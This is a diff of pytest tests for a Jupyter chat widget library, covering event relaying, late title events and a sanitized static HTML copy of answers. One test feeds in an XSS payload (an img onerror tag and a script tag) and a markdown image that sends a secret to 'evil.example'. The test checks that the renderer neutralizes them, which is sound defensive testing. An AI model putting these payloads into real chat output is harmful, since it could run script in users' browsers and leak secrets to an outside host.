@@ -9,8 +9,10 @@ import time
 import numpy as np
 import pytest
 
+from jupyter_chatflow import chat as chat_module
+from jupyter_chatflow import widget as widget_module
 from jupyter_chatflow.chat import Chat
-from jupyter_chatflow.events import Completed, TokenDelta, event_from_dict
+from jupyter_chatflow.events import Completed, TitleGenerated, TokenDelta, event_from_dict
 from jupyter_chatflow.relay import Relay
 from jupyter_chatflow.response import Response
 from jupyter_chatflow.store import Database
@@ -72,6 +74,31 @@ def test_events_are_batched_every_40_ms_not_sent_one_by_one():
     assert ended.wait(10)
     assert sum(len(m["events"]) for m in sent) == 60
     assert 3 <= len(sent) <= 15  # ~40 ms apart, not 60 messages
+
+
+def test_the_relay_ends_the_turn_at_its_terminal_event_and_still_sends_late_ones():
+    rows = _events(6)
+    rows.append({"type": "title_generated", "title": "A Title", "latency_ms": 5.0, "sequence_number": 6,
+                 "turn_id": "turn_t", "timestamp": 6.0})  # fmt: skip
+    gate, log = threading.Event(), []
+
+    def late():  # the title comes a while after the answer
+        for event in map(event_from_dict, rows):
+            if event.type == "title_generated":
+                gate.wait(10)
+            yield event
+
+    relay = Relay(Response(late()), _Tokenizer(), send=lambda m: log.append(("events", m)), on_start=lambda _: None,
+                  on_end=lambda turn: log.append(("end", turn)))  # fmt: skip
+    relay.start()
+    deadline = time.monotonic() + 5
+    while not relay.done and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert relay.done and log[-1][0] == "end"  # the turn ended before its title was written
+    assert [e["type"] for e in log[-1][1]["events"]][-1] == "completed"
+    gate.set()
+    relay.join(5)
+    assert log[-1][0] == "events" and [e["type"] for e in log[-1][1]["events"]] == ["title_generated"]
 
 
 def test_a_view_that_reloads_mid_stream_gets_every_event_after_its_last_sequence_number():
@@ -252,15 +279,62 @@ def test_a_watcher_that_is_gone_is_not_called(panel):
     assert kept.seen == [response.turn_id] and len(panel.chat._watchers) == 2  # the panel's and kept's
 
 
-def test_the_static_fallback_carries_the_answer_as_markdown_and_escaped_html(panel):
-    response = panel.ask("<img src=x onerror=alert(1)> hello")
+def test_the_static_copy_renders_answers_as_sanitized_markdown(panel):
+    hostile = "Use `a < b`.\n\n![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)> <script>1</script>"
+    rows = _events(3)
+    rows[0]["user"], rows[-1]["text"] = "<b>hi</b>", hostile
+    panel.turns = [{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None, "fork_of": ""}]
+    data, _ = panel.static_bundle()
+    shown = data["text/html"]
+    assert data["text/markdown"] == shown and shown.startswith('<div class="cf-static-copy">')
+    assert "<code>a &lt; b</code>" in shown and "&lt;b&gt;hi&lt;/b&gt;" in shown
+    for tag in ("<img", "<script", "<a ", 'src="'):
+        assert tag not in shown
+    assert "&lt;img src=x onerror=alert(1)&gt;" in shown  # shown as text
+    assert "[image: x — https://evil.example/?q=SECRET]" in shown
+
+
+def test_a_turn_end_updates_the_static_copy_never_the_panels_own_output(panel, monkeypatch):
+    """Updating the panel's output makes the front end build a new view: the tab, the scroll position and an open
+    popover were lost at every turn's end."""
+    shown: list[tuple[dict, object]] = []
+
+    class Handle:
+        def __init__(self, data: dict) -> None:
+            self.updates: list[dict] = []
+            shown.append((data, self))
+
+        def update(self, data: dict, **_: object) -> None:
+            self.updates.append(data)
+
+    monkeypatch.setattr(widget_module, "display", lambda data, **kw: Handle(data) if kw.get("display_id") else
+                        shown.append((data, None)))  # fmt: skip
+    panel._ipython_display_()
+    assert [("application/vnd.jupyter.widget-view+json" in d, h is not None) for d, h in shown] == [
+        (True, False), (False, True)]  # fmt: skip
+    panel.ask("Hello")
     panel.wait(60)
-    data, _ = panel._repr_mimebundle_()
-    assert data["application/vnd.jupyter.widget-view+json"]["model_id"] == panel.model_id
-    assert "<img" not in data["text/html"] and "&lt;img src=x" in data["text/html"]
-    assert "<img" not in data["text/markdown"]
-    answer = response.text()
-    assert answer.strip()[:5] in data["text/markdown"] or "&" in answer
+    copy = shown[1][1]
+    assert copy.updates and "cf-static-copy" in copy.updates[-1]["text/html"]
+    assert len(shown) == 2  # nothing displayed again
+
+
+def test_the_title_written_after_the_answer_reaches_the_panel(panel, monkeypatch):
+    """The title is generated after the turn's terminal event; the panel's turn ends at the answer, then the
+    title arrives as the turn's next event (live message, turns trait and title trait). (The tiny model's title
+    is stood in for: what is tested is its way to the panel.)"""
+    written = TitleGenerated(title="Sourdough Bread Baking", latency_ms=3.0)
+    monkeypatch.setattr(chat_module, "write_title", lambda *args: (time.sleep(0.2), written)[1])
+    response = panel.ask("Please tell me about sourdough bread baking")
+    panel.wait(120)
+    rows = panel.turns[0]["events"]
+    types = [r["type"] for r in rows]
+    assert types[-2:] == ["completed", "title_generated"], types
+    assert rows[-1]["sequence_number"] == rows[-2]["sequence_number"] + 1
+    assert panel.title == rows[-1]["title"] == response.title() == "Sourdough Bread Baking"
+    streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
+    assert [e["type"] for e in streamed][-2:] == ["completed", "title_generated"]
+    assert panel.status == "idle" and panel.live is None
 
 
 def test_settings_become_send_options(panel):
